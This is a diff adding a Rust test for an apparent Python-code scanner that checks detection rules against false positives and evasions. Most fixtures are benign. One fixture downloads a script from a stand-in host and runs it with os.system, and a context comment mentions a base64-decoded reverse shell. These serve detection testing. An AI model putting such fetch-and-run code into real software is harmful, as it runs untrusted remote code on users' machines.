@@ -698,6 +698,49 @@ fn exec_looked_up_in_the_builtins_dict_runs_decoded_code() {
 }
 
 #[test]
+fn review_of_the_days_mechanisms_false_positives_and_evasions() {
+    // Output files with computed names are not overwrites of found files.
+    for source in [
+        "import os, sys\nopen(os.path.join(os.path.expanduser('~'), sys.argv[1], sys.argv[2] + '.json'), 'w')\n",
+        "import sys\nopen(f'/srv/data/report-{sys.argv[1]}.csv', 'w')\n",
+        "import sys\nopen(f'/home/user/{sys.argv[1]}.txt', 'w')\n",
+    ] {
+        silent("CRD104", source);
+    }
+    // Base64 that happens to be 95 characters long is not a wallet address.
+    silent("CRD108", &format!("ICON = '4{}+/='\n", "A".repeat(94)));
+    // Worker relaunches behind `raise SystemExit` or a `match`; a user unit stopped; a
+    // project's own .env; a global ssh command.
+    silent(
+        "CRD111",
+        "import subprocess, sys\nif len(sys.argv) > 1:\n    print('child')\n    raise SystemExit(0)\nsubprocess.run([sys.executable, __file__, 'child'])\n",
+    );
+    silent(
+        "CRD111",
+        "import subprocess, sys\nmatch sys.argv[1:]:\n    case ['child']:\n        print('child')\n    case _:\n        subprocess.run([sys.executable, __file__, 'child'])\n",
+    );
+    silent(
+        "CRD107",
+        "import subprocess\nsubprocess.run(['systemctl', '--user', 'stop', 'myapp.service'])\n",
+    );
+    silent(
+        "CRD109",
+        "import os, requests\nkey = open(os.path.expanduser('~/weather-bot/.env')).read()\nrequests.get('https://api.weather.example/v1', params={'k': key})\n",
+    );
+    silent("CRD105", "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.sshCommand', 'ssh -i ~/.ssh/id_work'])\n");
+    // A helper's early return does not end the program's run; options before the script.
+    fires(
+        "CRD111",
+        "import subprocess, sys\ndef clamp(n):\n    if n > 10:\n        return 10\n    return n\nclamp(3)\nsubprocess.Popen([sys.executable, '-u', __file__])\n",
+    );
+    // A downloaded script run with interpreter options first.
+    fires(
+        "CRD102",
+        "import os, urllib.request\nurllib.request.urlretrieve('http://h.example/x.py', 'x.py')\nos.system('python3 -W ignore x.py')\n",
+    );
+}
+
+#[test]
 fn decoded_code_is_analysed_as_code_too() {
     // exec of a base64 payload is decode-then-execute, and what it decodes to is read:
     // here a reverse shell.
